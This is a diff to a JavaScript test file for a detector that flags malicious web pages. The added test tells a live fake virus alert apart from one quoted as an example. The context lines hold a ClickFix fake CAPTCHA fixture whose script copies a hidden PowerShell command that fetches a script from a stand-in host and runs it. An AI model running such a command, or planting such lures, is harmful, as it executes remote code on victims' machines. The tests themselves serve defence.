@@ -49,6 +49,12 @@ describe('malicious behaviour', () => {
     expect(scoreOf(check(article), 'page_fake_captcha')).toBe(0);
   });
 
+  it('does not take a quoted fake virus alert for the alert itself', () => {
+    const alert = 'Windows Defender security alert: your computer has been infected with a trojan. Call support now at 1-888-555-0199.';
+    expect(scoreOf(check(`<p>${alert}</p>`), 'page_tech_support_scam')).toBeGreaterThanOrEqual(80);
+    expect(scoreOf(check(`<p>Scam pages show text like this:</p><blockquote>${alert}</blockquote>`), 'page_tech_support_scam')).toBe(0);
+  });
+
   it('flags a ClickFix fake CAPTCHA as decisive', () => {
     const body = `<h1>Verify you are human</h1><ol><li>Press Windows Key + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>${script(
       'navigator.clipboard.writeText("powershell -w hidden -c iwr https://x.example/a.ps1 | iex")',
